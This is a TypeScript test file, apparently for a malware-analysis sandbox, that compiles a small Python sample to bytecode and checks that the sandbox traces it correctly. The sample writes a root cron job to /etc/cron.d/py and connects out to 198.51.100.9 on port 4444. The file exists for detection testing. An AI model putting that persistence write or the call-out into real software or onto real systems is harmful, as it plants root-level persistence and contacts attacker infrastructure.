// Bytecode of Python is run by the guest's own. The guest compiles it first, so that the test needs no Python.
import assert from 'node:assert/strict'
import { test } from 'node:test'
import type { SandboxOutcome } from '../../src/index.ts'
import { openTestVm } from './test-vm.ts'

const { vm, skip } = await openTestVm()

const PROGRAM = `import socket
open("/etc/cron.d/py", "w").write("* * * * * root /tmp/.x\\n")
socket.create_connection(("198.51.100.9", 4444)).send(b"hello")
raise SystemExit(6)
`
const COMPILES = `import py_compile
open("/tmp/a.py", "w").write(${JSON.stringify(PROGRAM)})
py_compile.compile("/tmp/a.py", cfile="/tmp/a.pyc")
`

test('bytecode runs, and is told as its source would be', { skip }, async () => {
  const made = await vm?.run({ bytes: Buffer.from(COMPILES), fileName: 'compile.py', observeMs: 60_000 })
  assert.ok(made?.status === 'complete', JSON.stringify(made).slice(0, 300))
  const bytecode = made.trace.dropped.find(({ path }) => path === '/tmp/a.pyc')?.bytes
  assert.ok(bytecode !== undefined)
  for (const fileName of ['update.pyc', 'update']) {
    const ran: SandboxOutcome | undefined = await vm?.run({ bytes: bytecode, fileName, observeMs: 60_000 })
    assert.ok(ran?.status === 'complete', JSON.stringify(ran).slice(0, 300))
    assert.deepEqual(ran.trace.exit, { how: 'exited', code: 6 }, ran.output.toString())
    assert.ok(ran.trace.files.some(({ op, path }) => op === 'write' && path === '/etc/cron.d/py'))
    assert.ok(ran.trace.network.some((event) => event.kind === 'tcp' && event.port === 4_444))
  }
})
